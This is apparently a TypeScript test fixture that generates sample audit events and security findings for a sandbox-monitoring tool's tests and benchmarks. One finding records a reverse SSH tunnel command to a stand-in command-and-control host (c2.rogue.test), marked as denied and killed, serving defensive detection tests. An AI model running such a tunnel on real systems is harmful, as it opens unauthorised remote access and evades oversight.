/** Realistic audit events of every kind, deterministic per index: the audit bench's workload, reused by the audit tests. */
import type { CordonEvent, Finding, Severity } from '../src/events/index.js';

const SEVERITIES: Severity[] = ['info', 'low', 'medium', 'high', 'critical'];

export function finding(i: number, over: Partial<Finding> = {}): Finding {
  return {
    id: `f-${i}`,
    rule: 'net.ssh-banner-to-unlisted-host',
    category: 'tunnel',
    severity: SEVERITIES[i % SEVERITIES.length]!,
    attack: ['T1572'],
    reason: 'reverse SSH tunnel to c2.rogue.test denied',
    action: 'kill',
    actionTaken: true,
    ts: 1_700_000_000_000 + i,
    sandboxId: `sb-${i % 4}`,
    episodeId: `ep-${i % 2}`,
    stepId: `step-${i % 8}`,
    pid: 100 + i,
    exe: '/usr/bin/ssh',
    argv: ['ssh', '-R', '9000:localhost:22', 'c2.rogue.test'],
    evidence: { banner: 'SSH-2.0-OpenSSH_9.2', port: 443 },
    eventIds: [`e-${i - 1}`],
    ...over,
  };
}

/** The i-th event of a stream: kinds rotate so every mapping and index gets exercised. */
export function sampleEvent(i: number, sandboxId = `sb-${i % 4}`): CordonEvent {
  const base = {
    id: `e-${i}`,
    ts: 1_700_000_000_000 + i,
    sandboxId,
    episodeId: `ep-${i % 2}`,
    stepId: `step-${i % 8}`,
  };
  switch (i % 6) {
    case 0:
      return {
        ...base,
        kind: 'process.exec',
        pid: 100 + i,
        ppid: 1,
        exe: '/usr/bin/curl',
        argv: ['curl', '-s', 'http://registry.test/'],
        source: 'ebpf',
      };
    case 1:
      return {
        ...base,
        kind: 'net.flow',
        flowId: `fl-${i}`,
        pid: 100 + i,
        exe: '/usr/bin/ssh',
        host: 'c2.rogue.test',
        address: '198.18.0.7',
        port: 443,
        protocol: 'ssh',
        details: { version: 'SSH-2.0-OpenSSH_9.2' },
        decision: 'deny',
        rule: 'default-deny',
        bytesOut: 0,
        bytesIn: 0,
        durationMs: 2,
        phase: 'open',
      };
    case 2:
      return {
        ...base,
        kind: 'net.dns',
        name: 'pool.rogue.test',
        qtype: 'A',
        answer: '198.18.0.9',
        decision: 'allow',
        tunnelScore: 0.1,
      };
    case 3:
      return { ...base, kind: 'finding', finding: finding(i, { sandboxId }) };
    case 4:
      return {
        ...base,
        kind: 'resource.sample',
        cpuMs: i,
        cpuCores: 0.5,
        memoryBytes: 1 << 20,
        pids: 3,
        afterCommand: false,
      };
    default:
      return { ...base, kind: 'process.exit', pid: 100 + i, exitCode: 0 };
  }
}
